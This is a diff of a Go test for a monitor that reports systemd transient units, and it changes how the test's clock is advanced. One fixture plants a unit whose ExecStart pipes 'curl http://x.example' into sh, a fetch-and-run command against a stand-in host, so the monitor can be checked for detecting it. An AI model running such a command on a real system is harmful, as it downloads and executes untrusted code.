@@ -479,8 +479,8 @@ func TestCursorOverRestart(t *testing.T) {
 // What systemd and its users make and drop all the time is told once.
 func TestTransientUnits(t *testing.T) {
 	h := newHost(t, Options{})
-	now := time.Now()
-	h.src.now = func() time.Time { return now }
+	var ahead time.Duration
+	h.src.now = func() time.Time { return time.Now().Add(ahead) }
 	h.learn()
 	rows := 0
 	for i := range 20 {
@@ -495,7 +495,7 @@ func TestTransientUnits(t *testing.T) {
 	}
 	h.plant(map[string]string{"run/systemd/transient/run-u99.service": "[Service]\nExecStart=\"/bin/sh\" \"-c\" \"curl http://x.example | sh\"\n"})
 	h.expect("another command", "created systemd run-u99.service birth_time [/bin/sh -c curl http://x.example | sh] ")
-	now = now.Add(25 * time.Hour)
+	ahead = 25 * time.Hour
 	h.remove("run/systemd/transient/run-u99.service")
 	h.plant(map[string]string{"run/systemd/transient/run-u100.service": "[Service]\nExecStart=\"/usr/sbin/web\" \"-t\"\n"})
 	if got := h.rows(); !strings.Contains(got, "created systemd run-u100.service") || !strings.Contains(got, "removed systemd run-u99.service") {
